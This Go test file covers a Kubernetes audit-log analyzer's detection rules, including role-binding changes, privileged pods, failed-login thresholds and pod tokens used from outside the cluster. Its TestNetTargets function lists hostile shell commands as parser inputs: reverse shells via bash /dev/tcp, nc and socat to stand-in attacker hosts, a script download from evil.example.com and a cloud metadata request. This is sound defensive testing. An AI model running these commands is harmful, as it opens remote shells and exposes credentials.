package analyzer

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
)

func engineOf(t *testing.T, yml string, al Allowlists) *Engine {
	t.Helper()
	rules, err := ParseRules([]byte(yml), "test.yaml")
	if err != nil {
		t.Fatal(err)
	}
	e, err := NewEngine(rules, Config{Allowlists: al})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func TestRenderJSONPatch(t *testing.T) {
	for _, tc := range []struct{ ops, want string }{
		{`[{"op":"add","path":"/subjects/-","value":{"kind":"User","name":"mallory"}}]`, `{"subjects":[{"kind":"User","name":"mallory"}]}`},
		{`[{"op":"add","path":"/rules/-","value":{"verbs":["*"]}},{"op":"add","path":"/rules/-","value":{"verbs":["get"]}}]`, `{"rules":[{"verbs":["*"]},{"verbs":["get"]}]}`},
		{`[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"x"},{"op":"replace","path":"/spec/template/spec/containers/0/name","value":"c"}]`,
			`{"spec":{"template":{"spec":{"containers":[{"image":"x","name":"c"}]}}}}`},
		{`[{"op":"remove","path":"/metadata/labels/pod-security.kubernetes.io~1enforce"}]`, `{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":null}}}`},
		{`[{"op":"test","path":"/subjects/1/name","value":"mallory"},{"op":"remove","path":"/subjects/1"}]`, `{}`},
		{`[{"op":"add","path":"","value":{}}]`, `{}`},
	} {
		var ops []any
		if err := json.Unmarshal([]byte(tc.ops), &ops); err != nil {
			t.Fatal(err)
		}
		if !isJSONPatch(ops) {
			t.Fatalf("%s: not a JSON patch", tc.ops)
		}
		got, _ := json.Marshal(renderJSONPatch(ops))
		if string(got) != tc.want {
			t.Errorf("%s\n got %s\nwant %s", tc.ops, got, tc.want)
		}
	}
}

func TestObjectAndChange(t *testing.T) {
	e := engineOf(t, `rules:
  - id: T-OBJ-001
    title: stored binding names mallory
    needs: object
    on: {resources: [clusterrolebindings]}
    match: object.subjects.exists(s, s.name == "mallory") && has(change.subjects) && size(change.subjects) == 1
`, Allowlists{})
	patch := `{"verb":"patch","level":"RequestResponse","objectRef":{"resource":"clusterrolebindings","name":"cluster-admin"},
		"requestObject":[{"op":"add","path":"/subjects/-","value":{"kind":"User","name":"mallory"}}],
		"responseObject":{"kind":"ClusterRoleBinding","roleRef":{"name":"cluster-admin"},"subjects":[{"kind":"Group","name":"system:masters"},{"kind":"User","name":"mallory"}]}}`
	e.Observe(ev(t, 1, 0, patch))
	// a refused patch: the response is a Status, object falls back to the change
	e.Observe(ev(t, 2, time.Hour*2, `{"verb":"patch","level":"RequestResponse","objectRef":{"resource":"clusterrolebindings","name":"x"},"responseStatus":{"code":403},
		"requestObject":[{"op":"add","path":"/subjects/-","value":{"kind":"User","name":"mallory"}}],"responseObject":{"kind":"Status","code":403}}`))
	got := byRule(e.Result().Findings)["T-OBJ-001"]
	if len(got) != 2 {
		t.Fatalf("findings %+v (errors %v)", got, e.Result().EvalErrors)
	}
}

func TestNotEvaluableByBodyNotLevel(t *testing.T) {
	e := engineOf(t, `rules:
  - id: T-BODY-001
    title: privileged
    needs: object
    on: {resources: [pods], verbs: [create, get]}
    match: containers(podSpec(object)).exists(c, has(c.securityContext) && c.securityContext.privileged == true)
`, Allowlists{})
	pod := `"requestObject":{"kind":"Pod","spec":{"containers":[{"name":"a","securityContext":{"privileged":true}}]}}`
	// an export without level, with the body: evaluated, fires
	e.Observe(ev(t, 1, 0, `{"level":"","verb":"create","objectRef":{"resource":"pods","namespace":"a","name":"p"},`+pod+`}`))
	// Metadata, no body: not evaluable
	e.Observe(ev(t, 2, time.Second, `{"verb":"create","objectRef":{"resource":"pods","namespace":"a","name":"q"}}`))
	// RequestResponse without a request body on a get: nothing missing
	e.Observe(ev(t, 3, 2*time.Second, `{"level":"RequestResponse","verb":"get","objectRef":{"resource":"pods","namespace":"a","name":"q"},"responseObject":{"kind":"Pod"}}`))
	// a level that would keep the body, but no body and no level... exports: not evaluable
	e.Observe(ev(t, 4, 3*time.Second, `{"level":"","verb":"create","objectRef":{"resource":"pods","namespace":"a","name":"r"}}`))
	r := e.Result()
	if n := len(byRule(r.Findings)["T-BODY-001"]); n != 1 {
		t.Errorf("findings: %d, want 1", n)
	}
	if len(r.NotEvaluable) != 1 || r.NotEvaluable[0].Events != 2 {
		t.Errorf("not evaluable: %+v, want 2 events", r.NotEvaluable)
	}
}

func TestRequestCountsOnceWhicheverStages(t *testing.T) {
	e := engineOf(t, `rules:
  - id: T-STAGE-001
    title: failed logins
    kind: threshold
    on: {codes: [401]}
    match: "true"
    key: sourceIPs[0]
    window: 10m
    threshold: 3
  - id: T-STAGE-002
    title: exec
    on: {resources: [pods], subresources: [exec]}
    match: authorized
`, Allowlists{})
	for i := 0; i < 2; i++ { // two requests, each logged at ResponseStarted and ResponseComplete
		for _, st := range []string{"ResponseStarted", "ResponseComplete"} {
			e.Observe(ev(t, 100+i, time.Duration(i)*time.Second, `{"stage":"`+st+`","user":{},"responseStatus":{"code":401}}`))
		}
	}
	if n := len(byRule(e.Result().Findings)["T-STAGE-001"]); n != 0 {
		t.Fatalf("two requests counted as more: %d findings", n)
	}
	// a third, logged only at ResponseStarted (the way the API server logs a 401)
	e.Observe(ev(t, 102, 3*time.Second, `{"stage":"ResponseStarted","user":{},"responseStatus":{"code":401}}`))
	f := byRule(e.Result().Findings)["T-STAGE-001"]
	if len(f) != 1 || f[0].Count != 3 {
		t.Fatalf("findings %+v, want one of 3 requests", f)
	}
	// an exec stream still open when the log was read: ResponseStarted only, code 101
	exec := `"verb":"get","objectRef":{"resource":"pods","subresource":"exec","namespace":"a","name":"p"},"responseStatus":{"code":101},"annotations":{"authorization.k8s.io/decision":"allow"}`
	e.Observe(ev(t, 200, 4*time.Second, `{"stage":"ResponseStarted",`+exec+`}`))
	e.Observe(ev(t, 200, 5*time.Second, `{"stage":"ResponseComplete",`+exec+`}`))
	f = byRule(e.Result().Findings)["T-STAGE-002"]
	if len(f) != 1 || f[0].Count != 1 {
		t.Fatalf("exec findings %+v, want one of one request", f)
	}
}

func TestClusterNetworks(t *testing.T) {
	rules := `rules:
  - id: T-NET-001
    title: pod token from outside
    match: '"authentication.kubernetes.io/pod-name" in user.extra'
    where: {source_outside_cluster: true}
    subject: [user, source_ip]
`
	tok := func(i int, ip string) string {
		return `{"user":{"username":"system:serviceaccount:a:b","extra":{"authentication.kubernetes.io/pod-name":["p"]}},"sourceIPs":["` + ip + `"]}`
	}
	node := `{"user":{"username":"system:node:n1","groups":["system:nodes"]},"sourceIPs":["52.0.0.9"]}`
	nodeObj := `{"level":"RequestResponse","verb":"patch","user":{"username":"system:node:n2","groups":["system:nodes"]},"sourceIPs":["10.0.0.2"],
		"objectRef":{"resource":"nodes","name":"n2","subresource":"status"},"responseObject":{"kind":"Node","metadata":{"name":"n2"},"spec":{"podCIDR":"172.16.5.0/24"},"status":{"addresses":[{"type":"ExternalIP","address":"34.1.2.3"}]}}}`
	for _, tc := range []struct {
		name string
		nets []string
		want []string // source IPs reported
	}{
		{"unconfigured: private is inside, node addresses learned", nil, []string{"198.51.100.7"}},
		{"configured: only the configured and learned", []string{"10.0.0.0/24"}, []string{"192.168.1.5", "198.51.100.7"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			al := Allowlists{ClusterNetworks: tc.nets}
			e := engineOf(t, rules, al)
			e.Observe(ev(t, 1, 0, node))
			e.Observe(ev(t, 2, time.Second, nodeObj))
			for i, ip := range []string{"52.0.0.9", "34.1.2.3", "172.16.5.77", "10.0.0.3", "192.168.1.5", "127.0.0.1", "198.51.100.7"} {
				e.Observe(ev(t, 10+i, time.Duration(2+i)*time.Second, tok(i, ip)))
			}
			var got []string
			for _, f := range byRule(e.Result().Findings)["T-NET-001"] {
				got = append(got, f.Subject.SourceIP)
			}
			if strings.Join(got, ",") != strings.Join(tc.want, ",") {
				t.Errorf("reported %v, want %v", got, tc.want)
			}
		})
	}
}

func TestWhereGrows(t *testing.T) {
	e := engineOf(t, `rules:
  - id: T-GROW-001
    title: subject added
    needs: object
    on: {resources: [clusterrolebindings], verbs: [create, update, patch]}
    match: verb != "create"
    where: {grows: 'object.subjects.map(s, s.name)'}
`, Allowlists{})
	crb := func(i int, at time.Duration, verb string, names ...string) {
		var subj []string
		for _, n := range names {
			subj = append(subj, `{"kind":"User","name":"`+n+`"}`)
		}
		e.Observe(ev(t, i, at, `{"verb":"`+verb+`","level":"RequestResponse","objectRef":{"resource":"clusterrolebindings","name":"b"},
			"requestObject":{"subjects":[`+strings.Join(subj, ",")+`]},"responseObject":{"kind":"ClusterRoleBinding","subjects":[`+strings.Join(subj, ",")+`]}}`))
	}
	crb(1, 0, "create", "ci")                     // teaches, does not match
	crb(2, time.Minute, "patch", "ci")            // nothing new
	crb(3, 2*time.Hour, "patch", "ci", "mallory") // grown: fires
	crb(4, 4*time.Hour, "patch", "ci")            // shrunk back: nothing
	f := byRule(e.Result().Findings)["T-GROW-001"]
	if len(f) != 1 || f[0].AuditIDs[0] != "id-3" {
		t.Fatalf("findings %+v, want one on id-3", f)
	}
}

func TestTuningFromTheAllowlistFile(t *testing.T) {
	rules := `rules:
  - id: T-TUNE-001
    title: burst
    kind: threshold
    match: "true"
    key: user.username
    window: 10m
    threshold: 5
`
	dir := t.TempDir()
	file := filepath.Join(dir, "al.yaml")
	os.WriteFile(file, []byte("tuning:\n  T-TUNE-001: {threshold: 2}\n"), 0o600)
	al, err := Allowlists{}.With(file)
	if err != nil {
		t.Fatal(err)
	}
	e := engineOf(t, rules, al)
	e.Observe(ev(t, 1, 0, `{}`))
	e.Observe(ev(t, 2, time.Second, `{}`))
	if n := len(byRule(e.Result().Findings)["T-TUNE-001"]); n != 1 {
		t.Errorf("tuned threshold 2: %d findings after 2 events", n)
	}
	// the untuned engine needs five
	e = engineOf(t, rules, Allowlists{})
	e.Observe(ev(t, 1, 0, `{}`))
	e.Observe(ev(t, 2, time.Second, `{}`))
	if n := len(byRule(e.Result().Findings)["T-TUNE-001"]); n != 0 {
		t.Errorf("threshold 5: %d findings after 2 events", n)
	}
	os.WriteFile(file, []byte("tuning:\n  T-NOPE-001: {threshold: 2}\n"), 0o600)
	al, _ = Allowlists{}.With(file)
	r, _ := ParseRules([]byte(rules), "t.yaml")
	if _, err := NewEngine(r, Config{Allowlists: al}); err == nil || !strings.Contains(err.Error(), "T-NOPE-001") {
		t.Errorf("tuning an unknown rule: %v", err)
	}
	os.WriteFile(file, []byte("cluster_networks: [not-a-cidr]\n"), 0o600)
	if _, err := (Allowlists{}).With(file); err == nil || !strings.Contains(err.Error(), "al.yaml") {
		t.Errorf("bad CIDR: %v", err)
	}
}

func TestNetTargets(t *testing.T) {
	for cmd, want := range map[string][]string{
		"curl -sk https://localhost:8443/healthz":                    {"localhost"},
		"bash -c </dev/tcp/127.0.0.1/8080":                           {"127.0.0.1"},
		"bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1":        {"198.51.100.23"},
		"curl -s http://169.254.169.254/latest/meta-data/":           {"169.254.169.254"},
		"wget evil.example.com/x.sh -O /tmp/x.sh":                    {"evil.example.com"},
		"nc -e /bin/sh 203.0.113.9 4444":                             {"203.0.113.9"},
		"socat exec:'bash -li',pty,stderr tcp:attacker.example:4444": {"attacker.example"},
		"curl $URL": {},
	} {
		if got := NetTargets(cmd); !reflect.DeepEqual(got, want) {
			t.Errorf("NetTargets(%q) = %v, want %v", cmd, got, want)
		}
	}
}

func TestGuardOf(t *testing.T) {
	env, err := newEnv(Allowlists{})
	if err != nil {
		t.Fatal(err)
	}
	for expr, want := range map[string]string{
		`(!isSystem(user) || onBehalf) && responseStatus.code < 400 && containers(podSpec(object)).exists(c, c.name == "a && b")`: `((!isSystem(user) || onBehalf)) && (responseStatus.code < 400)`,
		`verb == "create" && has(object.x)`:     `(verb == "create")`,
		`verb == "create" || has(object.x)`:     ``,
		`has(object.x) && object.x == 'y && z'`: ``,
		`verb == "get" && user.username == "a"`: ``, // memoized whole
		`verb == "get" ? has(object.a) : false`: ``,
	} {
		if got := guardOf(env, expr); got != want {
			t.Errorf("guardOf(%s)\n got %q\nwant %q", expr, got, want)
		}
	}
}
